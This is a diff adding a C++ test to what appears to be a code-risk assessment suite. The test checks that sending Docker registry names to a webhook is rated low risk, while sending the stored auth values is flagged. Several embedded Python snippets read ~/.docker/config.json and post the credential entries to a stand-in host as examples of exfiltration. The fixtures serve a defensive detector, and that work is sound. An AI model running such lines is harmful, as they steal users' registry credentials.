@@ -45,5 +45,34 @@ TEST(EightiethRoundClasses, ADirectoryMovedWholeCarriesTheFilesWrittenIntoIt) {
   for (const auto& c : cases) check(c);
 }
 
+// The keys of a credential store read at run time (registry names in
+// ~/.docker/config.json) are names: a summary that lists them is not the
+// credentials. Its values still are, however they are unpacked.
+TEST(EightiethRoundClasses, TheKeysOfACredentialStoreAreNotItsSecrets) {
+  const char* head =
+      "import json, requests\n"
+      "from pathlib import Path\n"
+      "cfg = json.load(open(Path.home() / '.docker' / 'config.json'))\n"
+      "auths = cfg.get('auths', {})\n";
+  const std::pair<const char*, RiskLevel> bodies[] = {
+      {"names = [name for name, entry in auths.items()]\n"
+       "requests.post('https://chat.example.org/hook', json={'rotated': names}, timeout=5)\n", L},
+      {"requests.post('https://chat.example.org/hook', json=sorted(auths.keys()), timeout=5)\n", L},
+      {"for name, entry in cfg['auths'].items():\n"
+       "    requests.post('https://chat.example.org/hook', json={'registry': name}, timeout=5)\n", L},
+      {"for name, entry in auths.items():\n"
+       "    requests.post('https://x.example.org/h', data=entry['auth'], timeout=5)\n", B},
+      {"requests.post('https://x.example.org/h', json=list(auths.items()), timeout=5)\n", B},
+      {"requests.post('https://x.example.org/h', data='\\n'.join(f'{k}={v}' for k, v in auths.items()), timeout=5)\n", B},
+      {"for name in auths.keys():\n"
+       "    requests.post('https://x.example.org/h', data=auths[name]['auth'], timeout=5)\n", B},
+  };
+  for (const auto& [body, level] : bodies) {
+    const std::string code = std::string(head) + body;
+    Case c{body, level, code.c_str(), level == B ? "EXFILTRATION" : nullptr};
+    check(c);
+  }
+}
+
 }  // namespace
 }  // namespace mai::assess::test
